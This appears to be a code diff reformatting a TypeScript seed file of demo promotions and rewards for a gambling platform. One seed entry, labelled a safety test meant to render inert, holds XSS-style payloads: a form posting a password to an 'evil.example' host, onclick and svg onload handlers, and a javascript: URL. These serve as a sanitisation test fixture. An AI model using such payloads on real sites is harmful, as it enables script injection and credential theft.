@@ -1,8 +1,8 @@
+import { ledgerReference } from '../../../src/shared/contract/ledger-reference';
 import { PROMO_COUNTER_TYPES, type PromoCounterType, type PromotionCategory } from '../../../src/shared/contract/promotions';
-import type { Db } from '../database';
 import { post } from '../../services/ledger';
 import { calendarDay, SIGN_IN_BONUS_MINOR } from '../../services/sign-in';
-import { ledgerReference } from '../../../src/shared/contract/ledger-reference';
+import type { Db } from '../database';
 
 /** The promotions each merchant runs: DEMO sign-in, the reward centre's kinds and referrals, LITE none. */
 export const MERCHANT_PROMOTIONS: Readonly<Record<string, readonly PromoCounterType[]>> = {
@@ -45,67 +45,112 @@ export const DEMO_PROMOTIONS: readonly SeedPromotion[] = [
       '<table><thead><tr><th>Deposit</th><th>Bonus</th><th>Turnover</th></tr></thead><tbody><tr><td>￥100</td><td>￥100</td><td>10x</td></tr>' +
       '<tr><td>￥500</td><td>￥500</td><td>12x</td></tr><tr><td>￥1,888</td><td>￥1,888</td><td>15x</td></tr></tbody></table>' +
       `<p>Read the <a href="/m/vip">VIP club rules</a> or <a href="https://example.com/terms" target="_blank" rel="noopener">full terms</a>.</p>${TERMS}`,
-    start: '2026-01-01', end: '2026-12-31', remark: 'Y', image: 'N', applies: true,
+    start: '2026-01-01',
+    end: '2026-12-31',
+    remark: 'Y',
+    image: 'N',
+    applies: true,
   },
   {
     title: 'Deposit slip reward: send your receipt',
     category: 'deposit_promo',
     content: `<p>Upload a picture of your deposit receipt and get 5% extra.</p>${TERMS}`,
-    start: '2026-03-01', end: '2026-12-31', remark: 'N', image: 'Y', applies: true,
+    start: '2026-03-01',
+    end: '2026-12-31',
+    remark: 'N',
+    image: 'Y',
+    applies: true,
   },
   {
     title: 'Daily reload 10%',
     category: 'deposit_promo',
     content: '<p>Every day, your first reload earns 10% up to ￥300. No form to fill: just apply.</p>',
-    start: '2026-01-01', end: null, remark: 'N', image: 'N', applies: true,
+    start: '2026-01-01',
+    end: null,
+    remark: 'N',
+    image: 'N',
+    applies: true,
   },
   {
     title: 'Download the app, get ￥18',
     category: 'app_download',
     content: '<p>Install the app from the <a href="/m/app">download page</a> and log in once.</p>',
-    start: '2026-02-01', end: '2026-12-31', remark: 'N', image: 'N', applies: false,
+    start: '2026-02-01',
+    end: '2026-12-31',
+    remark: 'N',
+    image: 'N',
+    applies: false,
   },
   {
     title: 'Slots tournament: weekly leaderboard',
     category: 'rng_promo',
     content: '<p>Sign up, then every valid bet on slots counts.</p><ul><li>1st: ￥8,888</li><li>2nd: ￥3,888</li><li>3rd: ￥1,888</li></ul>',
-    start: '2026-06-01', end: '2026-12-31', remark: 'N', image: 'N', applies: true, join: true,
+    start: '2026-06-01',
+    end: '2026-12-31',
+    remark: 'N',
+    image: 'N',
+    applies: true,
+    join: true,
   },
   {
     title: 'Live casino cashback 1%',
     category: 'live_promo',
     content: '<p>1% of every live casino valid bet comes back each Monday.</p>',
-    start: '2026-01-01', end: null, remark: 'N', image: 'N', applies: false,
+    start: '2026-01-01',
+    end: null,
+    remark: 'N',
+    image: 'N',
+    applies: false,
   },
   {
     title: 'Lucky draw: share your winning hand',
     category: 'live_promo',
     content: '<p>Tell us the table and round, and attach a screenshot.</p>',
-    start: '2026-04-01', end: '2026-12-31', remark: 'Y', image: 'Y', applies: true,
+    start: '2026-04-01',
+    end: '2026-12-31',
+    remark: 'Y',
+    image: 'Y',
+    applies: true,
   },
   {
     title: 'Sports: first bet insurance',
     category: 'sport_promo',
     content: '<p>Lose your first sports bet and get it back as a free bet, up to ￥500.</p>',
-    start: '2026-05-01', end: '2026-12-31', remark: 'Y', image: 'N', applies: true,
+    start: '2026-05-01',
+    end: '2026-12-31',
+    remark: 'Y',
+    image: 'N',
+    applies: true,
   },
   {
     title: 'Fishing frenzy weekend',
     category: 'fish_promo',
     content: '<p>Double points on every fishing game, Saturday and Sunday.</p>',
-    start: '2026-01-01', end: '2026-12-31', remark: 'N', image: 'N', applies: false,
+    start: '2026-01-01',
+    end: '2026-12-31',
+    remark: 'N',
+    image: 'N',
+    applies: false,
   },
   {
     title: 'Lottery streak bonus',
     category: 'lotto_promo',
     content: '<p>Bet on 7 draws in a row and claim ￥77.</p>',
-    start: '2026-01-01', end: '2026-12-31', remark: 'N', image: 'N', applies: true,
+    start: '2026-01-01',
+    end: '2026-12-31',
+    remark: 'N',
+    image: 'N',
+    applies: true,
   },
   {
     title: 'Unlimited rebate, every bet',
     category: 'rebate_promo',
     content: '<p>Rebate paid daily on every valid bet, no cap, long term.</p>',
-    start: '2025-01-01', end: null, remark: 'N', image: 'N', applies: false,
+    start: '2025-01-01',
+    end: null,
+    remark: 'N',
+    image: 'N',
+    applies: false,
   },
   {
     title: 'Safety test: this content must render inert',
@@ -119,7 +164,11 @@ export const DEMO_PROMOTIONS: readonly SeedPromotion[] = [
       '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>' +
       '<div onclick="window.__xss = \'onclick\'" style="background:url(javascript:alert(1))">Tap</div>' +
       '<svg onload="window.__xss = \'svg\'"><circle r="4"></circle></svg>',
-    start: '2026-01-01', end: '2026-12-31', remark: 'N', image: 'N', applies: false,
+    start: '2026-01-01',
+    end: '2026-12-31',
+    remark: 'N',
+    image: 'N',
+    applies: false,
   },
 ];
 
@@ -159,7 +208,15 @@ export async function seedPromotionCatalogue(db: Db, merchant: string, promotion
 export function demoRewards(memberId: number, now: string) {
   return [
     { member_id: memberId, kind: 'MANUAL' as const, title: 'Welcome gift', amount_minor: 1_800, tickets: 0, created_at: now, claimed_at: null },
-    { member_id: memberId, kind: 'MISSION_MANUAL' as const, title: 'Mission: play 10 slot rounds', amount_minor: 500, tickets: 0, created_at: now, claimed_at: null },
+    {
+      member_id: memberId,
+      kind: 'MISSION_MANUAL' as const,
+      title: 'Mission: play 10 slot rounds',
+      amount_minor: 500,
+      tickets: 0,
+      created_at: now,
+      claimed_at: null,
+    },
     { member_id: memberId, kind: 'UPGRADE_BONUS' as const, title: 'VIP 2 upgrade bonus', amount_minor: 8_800, tickets: 0, created_at: now, claimed_at: null },
     { member_id: memberId, kind: 'TICKET' as const, title: 'Lucky draw tickets', amount_minor: 0, tickets: 3, created_at: now, claimed_at: null },
   ];
@@ -182,19 +239,33 @@ export async function demoRewardHistory(db: Db, memberId: number, now: Date): Pr
     .values([
       {
         promotion_id: await promotion('Welcome bonus: 100% on your first deposit'),
-        member_id: memberId, remarks: 'First deposit today, thank you!', status: 'approved', reason: null,
-        created_at: daysAgo(6).toISOString(), decided_at: daysAgo(5).toISOString(),
+        member_id: memberId,
+        remarks: 'First deposit today, thank you!',
+        status: 'approved',
+        reason: null,
+        created_at: daysAgo(6).toISOString(),
+        decided_at: daysAgo(5).toISOString(),
       },
       {
         promotion_id: await promotion('Deposit slip reward: send your receipt'),
-        member_id: memberId, remarks: 'Slip attached', status: 'rejected', reason: 'The receipt does not match a deposit on this account.',
-        created_at: daysAgo(3).toISOString(), decided_at: daysAgo(2).toISOString(),
+        member_id: memberId,
+        remarks: 'Slip attached',
+        status: 'rejected',
+        reason: 'The receipt does not match a deposit on this account.',
+        created_at: daysAgo(3).toISOString(),
+        decided_at: daysAgo(2).toISOString(),
       },
     ])
     .execute();
-  for (const [bonus, back] of [[SIGN_IN_BONUS_MINOR[0], 2], [SIGN_IN_BONUS_MINOR[1], 1]] as const) {
+  for (const [bonus, back] of [
+    [SIGN_IN_BONUS_MINOR[0], 2],
+    [SIGN_IN_BONUS_MINOR[1], 1],
+  ] as const) {
     const day = calendarDay(daysAgo(back), MERCHANT_TIME_ZONES.DEMO ?? 'UTC');
-    await db.insertInto('sign_ins').values({ member_id: memberId, day, bonus_minor: bonus, created_at: daysAgo(back).toISOString() }).execute();
+    await db
+      .insertInto('sign_ins')
+      .values({ member_id: memberId, day, bonus_minor: bonus, created_at: daysAgo(back).toISOString() })
+      .execute();
     await post(db, { memberId, amountMinor: bonus, kind: 'bonus', reference: ledgerReference('sign-in', day), idempotencyKey: `sign-in:${memberId}:${day}` });
   }
 }
